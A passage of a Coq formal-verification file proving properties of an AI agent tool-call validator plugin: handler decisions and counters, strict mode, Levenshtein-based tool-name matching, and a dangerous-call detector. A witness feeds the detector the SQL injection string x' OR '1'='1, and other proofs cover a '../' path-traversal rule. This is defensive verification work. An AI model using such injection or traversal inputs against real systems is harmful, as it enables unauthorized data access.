(** C2. The handler calls [validateToolCall] without a schema.  Its
    decision is to block, with the reason of the danger check, when the
    danger check is on and fires, and is [undefined] otherwise; it never
    returns repaired parameters, and [strictMode],
    [blockOnValidationFailure] and [repairStrategy] have no bearing on
    it. *)
Theorem before_tool_call_decision `{TypeBox} (cfg : PluginConfig)
    (state : PluginState) (event : ToolCallEvent) :
  let r := before_tool_call cfg state event in
  let danger := checkDangerousCall (toolName event) (params event) in
  r = (let '(st, logs, decision) :=
         handle_result cfg (Stats.incr_validated (stats state)) (toolName event)
           (validateToolCall cfg (toolName event) (params event) None) in
       (mkPluginState (availableTools state) st,
        fuzzy_match_log cfg (availableTools state) (toolName event) ++ logs,
        decision)) /\
  decision_of r
  = (if not_false (blockDangerousCalls cfg) && dangerous danger
     then BlockCall (reason danger) else Undefined) /\
  (forall repaired_params, decision_of r <> WithParams repaired_params) /\
  (forall strategy blockOnFailure strict,
     decision_of
       (before_tool_call (with_schema_settings cfg strategy blockOnFailure strict)
          state event)
     = decision_of r).
Proof.
  cbv zeta. split; [reflexivity|].
  assert (Hdecision : forall cfg',
            decision_of (before_tool_call cfg' state event)
            = if not_false (blockDangerousCalls cfg')
                 && dangerous (checkDangerousCall (toolName event) (params event))
              then BlockCall (reason (checkDangerousCall (toolName event) (params event)))
              else Undefined).
  { intros cfg'. rewrite before_tool_call_unfolded. cbv zeta.
    now destruct (not_false (blockDangerousCalls cfg')
                  && dangerous (checkDangerousCall (toolName event) (params event))). }
  split; [apply Hdecision|]. split.
  - intros repaired_params. rewrite Hdecision.
    now destruct (not_false (blockDangerousCalls cfg)
                  && dangerous (checkDangerousCall (toolName event) (params event))).
  - intros strategy blockOnFailure strict. now rewrite !Hdecision.
Qed.

(** The counters after the handler has run: [validated] is one more,
    [blocked] is one more when the danger check refuses the call, and
    [repaired] and [errors] are what they were. *)
Lemma before_tool_call_counters `{TypeBox} (cfg : PluginConfig)
    (state : PluginState) (event : ToolCallEvent) :
  let after := stats_of (before_tool_call cfg state event) in
  let refused :=
    not_false (blockDangerousCalls cfg)
    && dangerous (checkDangerousCall (toolName event) (params event)) in
  Stats.validated after = Stats.validated (stats state) + 1 /\
  Stats.blocked after = Stats.blocked (stats state) + (if refused then 1 else 0) /\
  Stats.repaired after = Stats.repaired (stats state) /\
  Stats.errors after = Stats.errors (stats state).
Proof.
  cbv zeta. rewrite before_tool_call_unfolded. cbv zeta.
  destruct (not_false (blockDangerousCalls cfg)
            && dangerous (checkDangerousCall (toolName event) (params event)));
    cbn; repeat split; lia.
Qed.

(** Whatever the schema, a verdict of [validateToolCall] never makes the
    handler count a repair or return repaired parameters: a verdict that
    carries repaired arguments is valid, and the handler looks for them only
    in a verdict that is not. *)
Lemma handle_result_never_repairs `{TypeBox} (cfg : PluginConfig)
    (st : Stats.t) (toolName : string) (params : JSObject)
    (schema : option ToolSchema) :
  let r := handle_result cfg st toolName
             (validateToolCall cfg toolName params schema) in
  Stats.repaired (fst (fst r)) = Stats.repaired st /\
  forall repaired_params, snd r <> WithParams repaired_params.
Proof.
  cbv zeta.
  pose proof (validateToolCall_repaired_sound cfg toolName params schema) as Hrep.
  unfold handle_result.
  destruct (validateToolCall cfg toolName params schema)
    as [is_valid errs rep is_blocked why].
  cbn [valid errors repaired blocked blockReason] in *.
  destruct is_blocked; [cbn; split; [reflexivity | discriminate]|].
  destruct is_valid; cbn [negb]; [cbn; split; [reflexivity | discriminate]|].
  destruct rep as [rep|].
  - destruct (Hrep rep eq_refl) as [Hr _]. discriminate Hr.
  - destruct (truthy (strictMode cfg)); cbn; split; (reflexivity || discriminate).
Qed.

(** C6 (the code at the failing input). The tool [search] declares a number
    [count] and is called with the string 5.  Given the schema,
    [validateToolCall] repairs the call; the handler, which passes no
    schema, counts the call as validated and nothing else, and lets the
    original arguments through; and even on the verdict that carries the
    repair the rest of the handler counts neither an error nor a repair,
    the verdict being valid. *)
Lemma before_tool_call_misses_repair :
  @validateToolCall SimpleSchema.typebox default_config "search"
    [("count", JString "5")] (Some Samples.count_schema)
  = mkValidationResult true [] (Some [("count", JNumber 5)]) false None /\
  @before_tool_call SimpleSchema.typebox default_config initial_state
    (mkToolCallEvent "search" [("count", JString "5")])
  = (mkPluginState [] (Stats.mk 1 0 0 0), [], Undefined) /\
  @handle_result default_config (Stats.mk 1 0 0 0) "search"
    (mkValidationResult true [] (Some [("count", JNumber 5)]) false None)
  = (Stats.mk 1 0 0 0, [], Undefined).
Proof. vm_compute. repeat split. Qed.

(* ------------------------------------------------------------------------- *)
(** ** Strict mode *)
(* ------------------------------------------------------------------------- *)

(** C7 (as stated, refuted). The tool [greet] asks for a string [name] and
    is called without it: the call is not dangerous, fails the schema and
    cannot be repaired.  With strict mode on, the verdict is not blocked.
    With strict mode off and [blockOnValidationFailure] on, the verdict is
    blocked and the handler's step on it blocks the call: it does not
    proceed. *)
Lemma strict_mode_verdict_not_blocked :
  (strictMode Samples.strict_config = Some true /\
   @validateToolCall SimpleSchema.typebox Samples.strict_config "greet" []
     (Some Samples.name_schema)
   = mkValidationResult false ["/name: Expected required property"] None false None) /\
  (strictMode Samples.blocking_config = None /\
   @validateToolCall SimpleSchema.typebox Samples.blocking_config "greet" []
     (Some Samples.name_schema)
   = mkValidationResult false ["/name: Expected required property"] None true
       (Some "Validation failed: /name: Expected required property") /\
   snd (@handle_result Samples.blocking_config Stats.zero "greet"
          (@validateToolCall SimpleSchema.typebox Samples.blocking_config "greet" []
             (Some Samples.name_schema)))
   = BlockCall (Some "Validation failed: /name: Expected required property")).
Proof. vm_compute. repeat split. Qed.

(** C7 (amended). For a call that is not refused as dangerous and whose
    verdict is not valid (it fails the schema and is not repaired): the
    verdict carries no repaired arguments; it is blocked exactly when
    [blockOnValidationFailure] is on, whatever [strictMode] is, the reason
    then quoting the errors, and the handler's step on it decides to block
    with that reason; on a verdict that is not blocked the handler's step
    counts an error, logs the errors when logging is on, and decides to
    block with a reason quoting the errors when [strictMode] is on, and
    returns [undefined], so that the original arguments proceed, when it is
    off. *)
Theorem strict_mode_decides_in_handler `{TypeBox} (cfg : PluginConfig)
    (st : Stats.t) (toolName : string) (params : JSObject)
    (schema : option ToolSchema) :
  let r := validateToolCall cfg toolName params schema in
  let quoted := ("Validation failed: " ++ JsString.join ", " (errors r))%string in
  let step := handle_result cfg st toolName r in
  not_false (blockDangerousCalls cfg)
  && dangerous (checkDangerousCall toolName params) = false ->
  valid r = false ->
  repaired r = None /\
  errors r <> [] /\
  blocked r = truthy (blockOnValidationFailure cfg) /\
  (blocked r = true ->
     blockReason r = Some quoted /\ snd step = BlockCall (Some quoted)) /\
  (blocked r = false ->
     Stats.errors (fst (fst step)) = Stats.errors st + 1 /\
     snd (fst step)
     = log cfg (Warn ("tool-validator: validation errors for " ++ toolName ++ ": "
                      ++ JsString.join ", " (errors r))) /\
     snd step = if truthy (strictMode cfg) then BlockCall (Some quoted) else Undefined).
Proof.
  cbv zeta. intros Hsafe.
  rewrite validateToolCall_not_dangerous by exact Hsafe. cbv zeta.
  destruct (validate_schema cfg params schema) as [errs rep] eqn:Hv.
  cbn [fst snd valid errors repaired blocked blockReason].
  intros Hinvalid. apply Nat.eqb_neq in Hinvalid.
  assert (Hrep : rep = None).
  { destruct rep as [rep|]; [|reflexivity].
    destruct (validate_schema_repaired cfg params schema _ _ Hv) as [-> _].
    now contradiction Hinvalid. }
  subst rep.
  assert (Hlen : Nat.ltb 0 (List.length errs) = true).
  { apply Nat.ltb_lt. destruct errs; [now contradiction Hinvalid | simpl; lia]. }
  rewrite Hlen. cbn [andb].
  split; [reflexivity|]. split; [now destruct errs|]. split; [reflexivity|]. split.
  - intros ->. split; reflexivity.
  - intros Hoff. rewrite Hoff. unfold handle_result.
    cbn [valid errors repaired blocked blockReason].
    replace (Nat.eqb (List.length errs) 0) with false
      by (symmetry; now apply Nat.eqb_neq).
    cbn [negb]. now destruct (truthy (strictMode cfg)).
Qed.

Lemma strict_mode_decides_in_handler_witness :
  let r := @validateToolCall SimpleSchema.typebox Samples.strict_config "greet" []
             (Some Samples.name_schema) in
  let quoted := ("Validation failed: " ++ JsString.join ", " (errors r))%string in
  let step := @handle_result Samples.strict_config Stats.zero "greet" r in
  repaired r = None /\
  errors r <> [] /\
  blocked r = truthy (blockOnValidationFailure Samples.strict_config) /\
  (blocked r = true ->
     blockReason r = Some quoted /\ snd step = BlockCall (Some quoted)) /\
  (blocked r = false ->
     Stats.errors (fst (fst step)) = Stats.errors Stats.zero + 1 /\
     snd (fst step)
     = log Samples.strict_config
         (Warn ("tool-validator: validation errors for " ++ "greet" ++ ": "
                ++ JsString.join ", " (errors r))) /\
     snd step
     = if truthy (strictMode Samples.strict_config)
       then BlockCall (Some quoted) else Undefined).
Proof.
  apply (@strict_mode_decides_in_handler SimpleSchema.typebox Samples.strict_config
           Stats.zero "greet" [] (Some Samples.name_schema)).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

Example strict_mode_handler_step :
  @handle_result Samples.strict_config Stats.zero "greet"
    (mkValidationResult false ["/name: Expected required property"] None false None)
  = (Stats.mk 0 0 0 1,
     [Warn "tool-validator: validation errors for greet: /name: Expected required property"],
     BlockCall (Some "Validation failed: /name: Expected required property")).
Proof. vm_compute. reflexivity. Qed.

(* ========================================================================= *)
(** * Further properties *)
(* ========================================================================= *)

(* ------------------------------------------------------------------------- *)
(** ** levenshteinDistance as a distance *)
(* ------------------------------------------------------------------------- *)

Section LevRecurrence.
Variables a b : string.

(** Neighbouring cells of the table differ by at most one. *)
Lemma lev_rec_neighbours (n : nat) :
  forall i j, i + j <= n ->
    lev_rec a b (S i) j <= lev_rec a b i j + 1 /\
    lev_rec a b i (S j) <= lev_rec a b i j + 1 /\
    lev_rec a b i j <= lev_rec a b (S i) j + 1 /\
    lev_rec a b i j <= lev_rec a b i (S j) + 1.
Proof.
  induction n as [|n IH]; intros i j Hn.
  - assert (i = 0) by lia. assert (j = 0) by lia. subst. cbn. lia.
  - repeat split.
    + destruct j as [|j]; [rewrite !lev_rec_0_r; lia|].
      rewrite lev_rec_SS.
      destruct (IH i j ltac:(lia)) as (_ & _ & _ & Hd).
      destruct (String.eqb (charAt b i) (charAt a j)); lia.
    + destruct i as [|i]; [cbn; lia|].
      rewrite lev_rec_SS.
      destruct (IH i j ltac:(lia)) as (_ & _ & Hc & _).
      destruct (String.eqb (charAt b i) (charAt a j)); lia.
    + destruct j as [|j]; [rewrite !lev_rec_0_r; lia|].
      rewrite lev_rec_SS.
      destruct (IH i j ltac:(lia)) as (_ & Hb & Hc & _).
      destruct (String.eqb (charAt b i) (charAt a j)); lia.
    + destruct i as [|i]; [cbn; lia|].
      rewrite lev_rec_SS.
      destruct (IH i j ltac:(lia)) as (Ha & _ & _ & Hd).
      destruct (String.eqb (charAt b i) (charAt a j)); lia.
Qed.

(** A cell is at most the larger index and at least the difference of the
    indices. *)
Lemma lev_rec_bounds (i j : nat) :
  lev_rec a b i j <= Nat.max i j /\ i - j <= lev_rec a b i j /\
  j - i <= lev_rec a b i j.
Proof.
  revert j; induction i as [|i IHi]; intros j; [cbn; lia|].
  induction j as [|j IHj]; [rewrite lev_rec_0_r; lia|].
  rewrite lev_rec_SS.
  pose proof (IHi j). pose proof (IHi (S j)).
  destruct (String.eqb (charAt b i) (charAt a j)); lia.
Qed.

(** A cell is zero only on the diagonal, after equal characters. *)
Lemma lev_rec_zero (i : nat) :
  forall j, lev_rec a b i j = 0 ->
    i = j /\ forall k, k < i -> charAt b k = charAt a k.
Proof.
  induction i as [|i IH]; intros j Hz.
  - cbn in Hz. subst j. split; [reflexivity | intros k Hk; lia].
  - destruct j as [|j]; [rewrite lev_rec_0_r in Hz; discriminate|].
    rewrite lev_rec_SS in Hz.
    destruct (String.eqb_spec (charAt b i) (charAt a j)) as [Heq|_]; [|lia].
    destruct (IH j Hz) as [-> Hchars]. split; [reflexivity|].
    intros k Hk. destruct (Nat.eq_dec k j) as [->|Hne]; [exact Heq|].
    apply Hchars. lia.
Qed.

End LevRecurrence.

Lemma charAt_0 (c : ascii) (s : string) : charAt (String c s) 0 = String c "".
Proof. reflexivity. Qed.

Lemma charAt_S (c : ascii) (s : string) (k : nat) :
  charAt (String c s) (S k) = charAt s k.
Proof. reflexivity. Qed.

(** Two strings of one length with the same character at every index are
    equal. *)
Lemma string_charAt_ext (a : string) :
  forall b, String.length b = String.length a ->
    (forall k, k < String.length b -> charAt b k = charAt a k) -> b = a.
Proof.
  induction a as [|c a IH]; intros [|c' b] Hlen Hchars; try discriminate Hlen.
  - reflexivity.
  - simpl in Hlen. injection Hlen as Hlen.
    pose proof (Hchars 0 ltac:(simpl; lia)) as H0.
    rewrite !charAt_0 in H0. injection H0 as ->. f_equal.
    apply IH; [exact Hlen|]. intros k Hk.
    specialize (Hchars (S k) ltac:(simpl; lia)). now rewrite !charAt_S in Hchars.
Qed.

(** X1. The distance between two strings lies between the difference of
    their lengths and the larger of their lengths; from the empty string it
    is the length of the other string. *)
Theorem levenshteinDistance_bounds (a b : string) :
  String.length a - String.length b <= levenshteinDistance a b /\
  String.length b - String.length a <= levenshteinDistance a b /\
  levenshteinDistance a b <= Nat.max (String.length a) (String.length b) /\
  levenshteinDistance a "" = String.length a /\
  levenshteinDistance "" b = String.length b.
Proof.
  rewrite !levenshteinDistance_rec.
  pose proof (lev_rec_bounds a b (String.length b) (String.length a)).
  repeat split; first [lia | apply lev_rec_0_r | reflexivity].
Qed.

Lemma levenshteinDistance_zero_eq (a b : string) :
  levenshteinDistance a b = 0 -> a = b.
Proof.
  rewrite levenshteinDistance_rec. intros Hz.
  destruct (lev_rec_zero a b _ _ Hz) as [Hlen Hchars].
  symmetry. now apply string_charAt_ext.
Qed.

(** X2. The distance is zero exactly between equal strings. *)
Theorem levenshteinDistance_zero_iff (a b : string) :
  levenshteinDistance a b = 0 <-> a = b.
Proof.
  split; [apply levenshteinDistance_zero_eq|].
  intros ->. rewrite levenshteinDistance_rec. apply lev_rec_diag.
Qed.

(** The triangle inequality on the tables of three strings. *)
Lemma lev_rec_triangle (x y z : string) (n : nat) :
  forall i j k, i + j + k <= n ->
    lev_rec x z k i <= lev_rec x y j i + lev_rec y z k j.
Proof.
  induction n as [|n IH]; intros i j k Hn.
  - assert (i = 0) by lia. assert (j = 0) by lia. assert (k = 0) by lia.
    subst. cbn. lia.
  - destruct i as [|i].
    { rewrite !lev_rec_0_r. pose proof (lev_rec_bounds y z k j). lia. }
    destruct j as [|j].
    { rewrite lev_rec_0_r. cbn [lev_rec].
      pose proof (lev_rec_bounds x z k (S i)). lia. }
    destruct k as [|k].
    { change (lev_rec x z 0 (S i)) with (S i).
      change (lev_rec y z 0 (S j)) with (S j).
      pose proof (lev_rec_bounds x y (S j) (S i)). lia. }
    destruct (lev_rec_neighbours x z (k + i) k i ltac:(lia)) as (Hrow & Hcol & _ & _).
    destruct (lev_rec_neighbours x z (S k + i) (S k) i ltac:(lia)) as (_ & Hcol' & _ & _).
    destruct (lev_rec_neighbours x z (k + S i) k (S i) ltac:(lia)) as (Hrow' & _ & _ & _).
    pose proof (IH i (S j) (S k) ltac:(lia)) as T1.
    pose proof (IH (S i) (S j) k ltac:(lia)) as T2.
    pose proof (IH (S i) j (S k) ltac:(lia)) as T3.
    pose proof (IH (S i) j k ltac:(lia)) as T4.
    pose proof (IH i j (S k) ltac:(lia)) as T5.
    pose proof (IH i j k ltac:(lia)) as T6.
    assert (Hxz : lev_rec x z (S k) (S i)
                  <= lev_rec x z k i
                     + (if String.eqb (charAt z k) (charAt x i) then 0 else 1)).
    { rewrite lev_rec_SS. destruct (String.eqb (charAt z k) (charAt x i)); lia. }
    pose proof (lev_rec_SS x y j i) as Sxy. pose proof (lev_rec_SS y z k j) as Syz.
    destruct (String.eqb_spec (charAt y j) (charAt x i)) as [Exy|Nxy];
      destruct (String.eqb_spec (charAt z k) (charAt y j)) as [Eyz|Nyz];
      destruct (String.eqb_spec (charAt z k) (charAt x i)) as [Exz|Nxz];
      try congruence; lia.
Qed.

(** X3. The distance satisfies the triangle inequality. *)
Theorem levenshteinDistance_triangle (a b c : string) :
  levenshteinDistance a c <= levenshteinDistance a b + levenshteinDistance b c.
Proof.
  rewrite !levenshteinDistance_rec. now apply (lev_rec_triangle a b c _ _ _ _ (Nat.le_refl _)).
Qed.

(* ------------------------------------------------------------------------- *)
(** ** findClosestToolName: what it returns *)
(* ------------------------------------------------------------------------- *)

(** The match of the loop is a candidate, or the candidate it started
    with, and comes with a finite distance within the bound. *)
Lemma closest_loop_match (inputLower : string) (tools : list string) :
  forall closest minDistance m,
    cm_match (closest_loop inputLower tools closest minDistance) = Some m ->
    (In m tools \/ closest = Some m) /\
    exists d,
      cm_distance (closest_loop inputLower tools closest minDistance) = Finite d /\
      d <= ceil_three_tenths (String.length m).
Proof.
  induction tools as [|tool rest IH]; intros closest minDistance m.
  - cbn [closest_loop]. unfold closest_result.
    destruct closest as [c|]; [|discriminate].
    destruct (truthy_string c
              && dist_leb minDistance (Finite (ceil_three_tenths (String.length c))))
      eqn:Hok; [|discriminate].
    cbn. intros [= ->]. split; [now right|].
    apply andb_prop in Hok as [_ Hle].
    destruct minDistance as [d|]; [|discriminate Hle].
    exists d. split; [reflexivity | now apply Nat.leb_le].
  - cbn [closest_loop]. cbv zeta.
    destruct (String.eqb inputLower (JsString.toLowerCase tool)).
    + cbn. intros [= ->]. split; [now left; left|].
      exists 0. split; [reflexivity | lia].
    + destruct (dist_ltb _ minDistance); intros Hm;
        destruct (IH _ _ _ Hm) as ([Hin | Hc] & Hd); (split; [|exact Hd]).
      * now left; right.
      * injection Hc as ->. now left; left.
      * now left; right.
      * now right.
Qed.

(** X4. A name returned by [findClosestToolName] is one of the available
    tools, and its distance is finite and at most 30% of its length rounded
    up; from an empty pool nothing is returned, at distance [Infinity]. *)
Theorem findClosestToolName_match_in_pool (input : string) (tools : list string) :
  (forall m, cm_match (findClosestToolName input tools) = Some m ->
     In m tools /\
     exists d, cm_distance (findClosestToolName input tools) = Finite d /\
               d <= ceil_three_tenths (String.length m)) /\
  findClosestToolName input [] = mkClosestMatch None Infinity.
Proof.
  split; [|reflexivity].
  intros m. unfold findClosestToolName.
  destruct (existsb (String.eqb input) tools) eqn:Hincl.
  - cbn. intros [= <-]. split.
    + apply existsb_exists in Hincl as (t & Hin & Heq).
      apply String.eqb_eq in Heq. now subst.
    + exists 0. split; [reflexivity | lia].
  - intros Hm. destruct (closest_loop_match _ _ _ _ _ Hm) as ([Hin | Hc] & Hd).
    + now split.
    + discriminate Hc.
Qed.

Lemma findClosestToolName_match_in_pool_witness :
  In "chroma_search" ["chroma_search"; "chroma_store"] /\
  exists d,
    cm_distance (findClosestToolName "chrom_search" ["chroma_search"; "chroma_store"])
    = Finite d /\
    d <= ceil_three_tenths (String.length "chroma_search").
Proof.
  apply (proj1 (findClosestToolName_match_in_pool "chrom_search"
                  ["chroma_search"; "chroma_store"])).
  reflexivity.
Defined.

(** The loop stops at the first candidate equal to the input up to case. *)
Lemma closest_loop_ci_match (inputLower : string) (tools : list string) :
  forall closest minDistance,
    (exists t, In t tools /\ JsString.toLowerCase t = inputLower) ->
    exists m, In m tools /\ JsString.toLowerCase m = inputLower /\
      closest_loop inputLower tools closest minDistance
      = mkClosestMatch (Some m) (Finite 0).
Proof.
  induction tools as [|tool rest IH]; intros closest minDistance (t & Hin & Ht).
  - destruct Hin.
  - cbn [closest_loop]. cbv zeta.
    destruct (String.eqb_spec inputLower (JsString.toLowerCase tool)) as [Heq|Hne].
    + exists tool. split; [now left|]. now split.
    + destruct Hin as [->|Hin]; [congruence|].
      assert (Hex : exists t, In t rest /\ JsString.toLowerCase t = inputLower)
        by now exists t.
      destruct (dist_ltb _ minDistance);
        [destruct (IH (Some tool)
                     (Finite (levenshteinDistance inputLower (JsString.toLowerCase tool)))
                     Hex) as (m & Hm & Hlow & Hr)
        |destruct (IH closest minDistance Hex) as (m & Hm & Hlow & Hr)];
        exists m; (split; [now right|]); now split.
Qed.

(** The loop reports distance zero only when a candidate equals the input
    up to case. *)
Lemma closest_loop_zero (inputLower : string) (tools : list string) :
  forall closest minDistance,
    minDistance <> Finite 0 ->
    cm_distance (closest_loop inputLower tools closest minDistance) = Finite 0 ->
    exists t, In t tools /\ JsString.toLowerCase t = inputLower.
Proof.
  induction tools as [|tool rest IH]; intros closest minDistance Hmin.
  - cbn [closest_loop]. unfold closest_result.
    destruct closest as [c|]; [|cbn; congruence].
    destruct (truthy_string c && dist_leb minDistance _); cbn; congruence.
  - cbn [closest_loop]. cbv zeta.
    destruct (String.eqb_spec inputLower (JsString.toLowerCase tool)) as [Heq|Hne].
    + intros _. exists tool. split; [now left | now symmetry].
    + destruct (dist_ltb _ minDistance); intros Hz.
      * assert (Hpos : Finite (levenshteinDistance inputLower (JsString.toLowerCase tool))
                       <> Finite 0).
        { intros [= Hd]. apply levenshteinDistance_zero_eq in Hd. congruence. }
        destruct (IH _ _ Hpos Hz) as (t & Hin & Ht).
        exists t. split; [now right | exact Ht].
      * destruct (IH _ _ Hmin Hz) as (t & Hin & Ht).
        exists t. split; [now right | exact Ht].
Qed.

(** X5. [findClosestToolName] reports distance zero exactly when an
    available tool equals the input up to case, and then returns such a
    tool: the input itself when it is available. *)
Theorem findClosestToolName_zero_iff (input : string) (tools : list string) :
  let r := findClosestToolName input tools in
  (cm_distance r = Finite 0 <->
   exists t, In t tools /\ JsString.toLowerCase t = JsString.toLowerCase input) /\
  (cm_distance r = Finite 0 ->
   exists m, cm_match r = Some m /\ In m tools /\
             JsString.toLowerCase m = JsString.toLowerCase input) /\
  (In input tools -> r = mkClosestMatch (Some input) (Finite 0)).
Proof.
  cbv zeta.
  assert (Hincl : In input tools ->
            findClosestToolName input tools = mkClosestMatch (Some input) (Finite 0)).
  { intros Hin. unfold findClosestToolName.
    replace (existsb (String.eqb input) tools) with true; [reflexivity|].
    symmetry. apply existsb_exists. exists input. split; [exact Hin|].
    apply String.eqb_refl. }
  assert (Hfound : (exists t, In t tools /\
                      JsString.toLowerCase t = JsString.toLowerCase input) ->
            exists m, findClosestToolName input tools
                      = mkClosestMatch (Some m) (Finite 0) /\ In m tools /\
                      JsString.toLowerCase m = JsString.toLowerCase input).
  { intros Hex. unfold findClosestToolName.
    destruct (existsb (String.eqb input) tools) eqn:Hin.
    - apply existsb_exists in Hin as (t & Hin & Heq).
      apply String.eqb_eq in Heq. subst t. now exists input.
    - destruct (closest_loop_ci_match _ tools None Infinity Hex) as (m & Hm & Hlow & Hr).
      exists m. now rewrite Hr. }
  assert (Hzero : cm_distance (findClosestToolName input tools) = Finite 0 ->
            exists t, In t tools /\
              JsString.toLowerCase t = JsString.toLowerCase input).
  { unfold findClosestToolName.
    destruct (existsb (String.eqb input) tools) eqn:Hin.
    - intros _. apply existsb_exists in Hin as (t & Hin & Heq).
      apply String.eqb_eq in Heq. subst t. now exists input.
    - apply closest_loop_zero. discriminate. }
  split; [|split].
  - split; [exact Hzero|]. intros Hex.
    destruct (Hfound Hex) as (m & -> & _). reflexivity.
  - intros Hz. destruct (Hfound (Hzero Hz)) as (m & -> & Hin & Hlow).
    now exists m.
  - exact Hincl.
Qed.

Lemma findClosestToolName_zero_iff_witness :
  exists m, cm_match (findClosestToolName "Read_File" ["bash"; "read_file"]) = Some m /\
            In m ["bash"; "read_file"] /\
            JsString.toLowerCase m = JsString.toLowerCase "Read_File".
Proof.
  apply (proj1 (proj2 (findClosestToolName_zero_iff "Read_File" ["bash"; "read_file"]))).
  reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** checkDangerousCall: what is flagged and what is not *)
(* ------------------------------------------------------------------------- *)

(** The scan's answer is [false] without a reason, or [true] with the
    message of a rule that fires. *)
Lemma check_rules_sound (rules : list DangerRule) (toolName : string)
    (params : JSObject) :
  check_rules rules toolName params = mkDangerCheck false None \/
  exists rule regex,
    In rule rules /\ rule_fires rule toolName params /\
    In regex (rule_patterns rule) /\
    check_rules rules toolName params
    = mkDangerCheck true (Some (danger_reason (rule_param rule) regex)).
Proof.
  induction rules as [|r rules IH]; [now left|].
  assert (Hrest : check_rules rules toolName params = mkDangerCheck false None \/
            exists rule regex,
              In rule (r :: rules) /\ rule_fires rule toolName params /\
              In regex (rule_patterns rule) /\
              check_rules rules toolName params
              = mkDangerCheck true (Some (danger_reason (rule_param rule) regex))).
  { destruct IH as [IH | (rule & regex & Hin & Hf & Hre & Hc)]; [now left|].
    right. exists rule, regex. split; [now right|]. now split. }
  cbn [check_rules].
  destruct (negb (String.eqb (rule_tool r) "*")
            && negb (String.eqb (rule_tool r) toolName)) eqn:Hskip; [exact Hrest|].
  destruct (Obj.get params (rule_param r)) as [| | | |value| | |] eqn:Hget;
    try exact Hrest.
  destruct (first_matching (rule_patterns r) value) as [regex|] eqn:Hfirst;
    [|exact Hrest].
  destruct (first_matching_sound _ _ _ Hfirst) as [Hre Htest].
  right. exists r, regex. split; [now left|].
  split; [|split; [exact Hre | reflexivity]].
  split; [|now exists value, regex].
  apply andb_false_iff in Hskip as [Hs|Hs]; apply negb_false_iff in Hs;
    apply String.eqb_eq in Hs; auto.
Qed.

(** X6. [checkDangerousCall] flags a call exactly when a rule of its table
    fires on it; a flagged call comes with the message of the first rule
    that fires, which names the field of the rule and the first pattern of
    the rule that the argument in this field matches; a call that is not
    flagged comes with no reason. *)
Theorem checkDangerousCall_flags_iff (toolName : string) (params : JSObject) :
  let danger := checkDangerousCall toolName params in
  (dangerous danger = true <->
   exists rule, In rule dangerousPatterns /\ rule_fires rule toolName params) /\
  (dangerous danger = true ->
   exists rule value regex,
     In rule dangerousPatterns /\ rule_fires rule toolName params /\
     Obj.get params (rule_param rule) = JString value /\
     In regex (rule_patterns rule) /\
     RegExp.test regex value = true /\
     first_to_fire dangerousPatterns toolName params rule /\
     first_to_match (rule_patterns rule) value regex /\
     reason danger
     = Some ("Potentially dangerous pattern detected in " ++ rule_param rule ++ ": "
             ++ RegExp.toString regex)%string) /\
  (dangerous danger = false -> reason danger = None).
Proof.
  cbv zeta. unfold checkDangerousCall.
  destruct (check_rules_first dangerousPatterns toolName params)
    as [Hsafe | (rule & value & regex & Hfirst & Hvalue & Hmatch & Hc)].
  - rewrite Hsafe. cbn. split; [|split]; try discriminate; [|reflexivity].
    split; [discriminate|]. intros Hex.
    destruct (check_rules_fires dangerousPatterns toolName params Hex)
      as (rule & regex & _ & _ & _ & Hc). congruence.
  - destruct (first_to_fire_in _ _ _ _ Hfirst) as [Hin Hf].
    destruct (first_matching_sound _ _ _ Hmatch) as [Hre Htest].
    rewrite Hc. cbn. split; [|split]; try discriminate.
    + split; [|reflexivity]. intros _. now exists rule.
    + intros _. exists rule, value, regex.
      split; [exact Hin|]. split; [exact Hf|]. split; [exact Hvalue|].
      split; [exact Hre|]. split; [exact Htest|]. split; [exact Hfirst|].
      split; [now apply first_matching_first | reflexivity].
Qed.

Lemma checkDangerousCall_flags_iff_witness :
  exists rule value regex,
    In rule dangerousPatterns /\
    rule_fires rule "db" [("query", JString "x' OR '1'='1")] /\
    Obj.get [("query", JString "x' OR '1'='1")] (rule_param rule) = JString value /\
    In regex (rule_patterns rule) /\
    RegExp.test regex value = true /\
    first_to_fire dangerousPatterns "db" [("query", JString "x' OR '1'='1")] rule /\
    first_to_match (rule_patterns rule) value regex /\
    reason (checkDangerousCall "db" [("query", JString "x' OR '1'='1")])
    = Some ("Potentially dangerous pattern detected in " ++ rule_param rule ++ ": "
            ++ RegExp.toString regex)%string.
Proof.
  apply (proj1 (proj2 (checkDangerousCall_flags_iff "db"
                         [("query", JString "x' OR '1'='1")]))).
  reflexivity.
Defined.

(** The pattern of the path rules matches at the start of a text exactly
    when the text starts with the three characters. *)
Lemma match_here_dot_dot_slash (s : string) :
  (exists st, RegExp.match_here Patterns.dot_dot_slash s = Some st) <->
  exists rest, s = ("../" ++ rest)%string.
Proof.
  split.
  - intros [st Hst]. unfold RegExp.match_here in Hst.
    cbn [RegExp.run RegExp.pattern RegExp.ignoreCase Patterns.dot_dot_slash
         RegExp.Lit RegExp.char_matches] in Hst.
    destruct s as [|c1 s]; [discriminate Hst|].
    destruct (Ascii.eqb_spec "." c1) as [<-|_]; [|discriminate Hst].
    destruct s as [|c2 s]; [discriminate Hst|].
    destruct (Ascii.eqb_spec "." c2) as [<-|_]; [|discriminate Hst].
    destruct s as [|c3 s]; [discriminate Hst|].
    destruct (Ascii.eqb_spec "/" c3) as [<-|_]; [|discriminate Hst].
    now exists s.
  - intros [rest ->]. now exists (rest, []).
Qed.

Lemma test_dot_dot_slash (s : string) :
  RegExp.test Patterns.dot_dot_slash s = true <-> contains s "../".
Proof.
  induction s as [|c s IH].
  - split; [discriminate|]. intros (before & after & Hs).
    destruct before; discriminate Hs.
  - cbn [RegExp.test].
    destruct (RegExp.match_here Patterns.dot_dot_slash (String c s)) as [st|] eqn:Hm.
    + split; [|reflexivity]. intros _.
      destruct (proj1 (match_here_dot_dot_slash (String c s))) as [rest Hrest];
        [now exists st|].
      exists "", rest. exact Hrest.
    + rewrite IH. split.
      * intros (before & after & ->). now exists (String c before), after.
      * intros (before & after & Hs). destruct before as [|c' before].
        -- exfalso.
           destruct (proj2 (match_here_dot_dot_slash (String c s))) as [st Hst];
             [now exists after | congruence].
        -- injection Hs as _ ->. now exists before, after.
Qed.

(** X7. For every tool, a call whose [path] or [file] argument is a string
    that contains the characters of a parent-directory step is flagged; and
    the pattern of these rules matches exactly the strings that contain
    them. *)
Theorem checkDangerousCall_path_traversal (toolName : string) (params : JSObject)
    (key value : string) :
  (key = "path" \/ key = "file") ->
  Obj.get params key = JString value ->
  contains value "../" ->
